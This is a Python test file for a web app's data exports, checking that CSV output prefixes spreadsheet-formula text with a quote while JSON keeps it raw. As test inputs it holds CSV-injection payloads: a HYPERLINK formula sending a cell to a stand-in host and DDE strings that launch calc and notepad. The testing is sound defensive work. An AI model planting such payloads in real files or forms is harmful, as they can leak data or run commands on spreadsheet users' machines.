"""Every CSV the app writes neutralises text a spreadsheet would run as a formula (OWASP: a leading
``'``); numbers stay numbers; the JSON export keeps the text exactly as entered (it is not meant for
spreadsheets)."""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import urlencode

from markupsafe import escape
from sqlalchemy import select

from tests.webapp.admin_credentials import ADMIN_PASSWORD
from tests.webapp.participant_driver import Driver, csrf_token
from tests.webapp.stimulus_sets import make_stimulus_set
from webapp.__main__ import main as cli
from webapp.exports import export, spreadsheet_safe
from webapp.storage import Participant

# headphone check off; the volume page stays, so volume_gain_db holds a negative number (-1.5)
STUDY = "headphone_check: {enabled: false}\nrandomise_trials: false\n"
CROWD = {"PROLIFIC_PID": '=HYPERLINK("http://evil.example/?"&A1,"x")', "STUDY_ID": "@SUM(1+1)*cmd|' /C calc'!A0", "SESSION_ID": "+1-2"}
ANSWERS = {"age": 30, "hearing_problems": "no", "experience": "some", "headphones_model": "-2+3", "comments": "\tsneaky\r=1"}
USER_AGENT = "=cmd|' /C notepad'!A1"
REASON = "@HYPERLINK(1)"
ITEM = "=item one"
CONDITION = "-distilled"


def rename(folder, old: str, new: str) -> None:
    """Give a condition id and item name of the manifest text a spreadsheet would run."""
    path = folder / "manifest.json"
    manifest = json.loads(path.read_text())
    for trial in manifest["trials"]:
        if not trial["training"]:
            trial["item"] = ITEM
        for c in trial["conditions"]:
            if c["id"] == old:
                c["id"] = new
    path.write_text(json.dumps(manifest))


def escaped(text: str) -> str:
    return "'" + text


def run_study(stim_root, make_app):
    folder = make_stimulus_set(stim_root, n_trials=1, test_yaml=STUDY)
    rename(folder, "distilled", CONDITION)
    app = make_app(folder)
    storage = app.extensions["earshot"].tests["demo"].storage
    client = app.test_client()
    client.environ_base["HTTP_USER_AGENT"] = USER_AGENT
    d = Driver(client)
    # The crowd ids arrive in the participant link's query and go on through the consent form.
    html = client.get("/t/demo/?" + urlencode(CROWD)).get_data(as_text=True)
    for value in CROWD.values():
        assert f'value="{escape(value)}"' in html
    r = client.post("/t/demo/start", data={"consent": "yes", "csrf_token": csrf_token(html), **CROWD})
    assert r.status_code == 302
    while True:
        _, data = d.current()
        if data is None:
            break
        body = d.answer(data, storage, questionnaire=ANSWERS)
        assert d.post(body).status_code == 200
    admin = app.test_client()
    html = admin.get("/admin/login").get_data(as_text=True)
    assert admin.post("/admin/login", data={"password": ADMIN_PASSWORD, "csrf_token": csrf_token(html)}).status_code == 302
    html = admin.get("/admin/demo/").get_data(as_text=True)
    with storage.reading() as s:
        code = s.scalar(select(Participant.code))
    r = admin.post(f"/admin/demo/participants/{code}/exclude", data={"reason": REASON, "csrf_token": csrf_token(html)})
    assert r.status_code == 302
    return app, admin, folder


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_spreadsheet_safe_cells():
    for text in ("=1", "+1", "-1", "@A1", "\t1", "\r1"):
        assert spreadsheet_safe(text) == "'" + text
    for value in ("1", "a=b", " =1", "", "'=already"):
        assert spreadsheet_safe(value) == value
    assert spreadsheet_safe(-3) == -3 and spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe(None) == ""
    assert spreadsheet_safe(True) is True


def test_every_csv_export_neutralises_formulas_and_keeps_numbers(stim_root, make_app, tmp_path):
    app, admin, folder = run_study(stim_root, make_app)

    participants = read_csv(admin.get("/admin/demo/export/participants").get_data(as_text=True))
    assert len(participants) == 1
    p = participants[0]
    for key, value in CROWD.items():
        assert p[key] == escaped(value), key
    assert p["q_headphones_model"] == escaped(ANSWERS["headphones_model"])
    assert p["q_comments"] == escaped(ANSWERS["comments"])  # the tab, the CR and all, read back
    assert p["q_age"] == "30" and p["q_hearing_problems"] == "no"
    assert p["user_agent"] == escaped(USER_AGENT)
    assert p["exclusion_reason"] == escaped(REASON)
    assert p["volume_gain_db"] == "-1.5"  # a negative number in a numeric column stays a number
    assert p["pages_submitted"] == p["pages_total"] and p["excluded"] == "True"

    ratings = read_csv(admin.get("/admin/demo/export/ratings?include_excluded=1").get_data(as_text=True))
    assert len(ratings) == 5
    assert {r["item"] for r in ratings} == {escaped(ITEM)}
    assert escaped(CONDITION) in {r["condition"] for r in ratings}
    assert {r["score"] for r in ratings} == {"100", "50"} and {r["duration_ms"] for r in ratings} == {"20000"}
    assert {r["trial_position"] for r in ratings} == {"1"}

    mushra = read_csv(admin.get("/admin/demo/export/mushra?include_excluded=1").get_data(as_text=True))
    assert escaped(CONDITION) in {m["rating_stimulus"] for m in mushra}
    assert {m["rating_score"] for m in mushra} == {"100", "50"} and {m["rating_time"] for m in mushra} == {"20000"}

    # JSON is for programs: the exact text as entered, no quote added
    payload = json.loads(admin.get("/admin/demo/export/json?include_excluded=1").get_data(as_text=True))
    jp = payload["participants"][0]
    assert {k: jp[k] for k in CROWD} == CROWD
    assert jp["q_comments"] == ANSWERS["comments"] and jp["user_agent"] == USER_AGENT
    assert jp["exclusion_reason"] == REASON and jp["volume_gain_db"] == -1.5
    assert {r["item"] for r in payload["ratings"]} == {ITEM}

    # the command line writes the same CSV
    out = tmp_path / "cli-participants.csv"
    assert cli(["export", str(folder), "--results-dir", str(tmp_path / "results"), "--format", "participants", "--out", str(out)]) == 0
    with out.open(newline="") as fh:  # as the csv module asks: the CR inside a quoted cell stays a CR
        assert read_csv(fh.read()) == participants
    storage = app.extensions["earshot"].tests["demo"].storage
    stim = app.extensions["earshot"].tests["demo"].stim
    assert read_csv(export(storage, stim, "ratings", include_excluded=True)) == ratings


def test_column_names_are_neutralised_too(stim_root, make_app):
    # Crowd parameter names come from test.yaml and head their own columns.
    yaml = "headphone_check: {enabled: false}\nvolume_check: false\ncrowd_parameters: ['=PID']\n"
    app = make_app(make_stimulus_set(stim_root, n_trials=1, test_yaml=yaml))
    Driver(app.test_client()).start()
    runtime = app.extensions["earshot"].tests["demo"]
    header, row = csv.reader(io.StringIO(export(runtime.storage, runtime.stim, "participants")))
    assert "'=PID" in header and "=PID" not in header and row[header.index("'=PID")] == ""
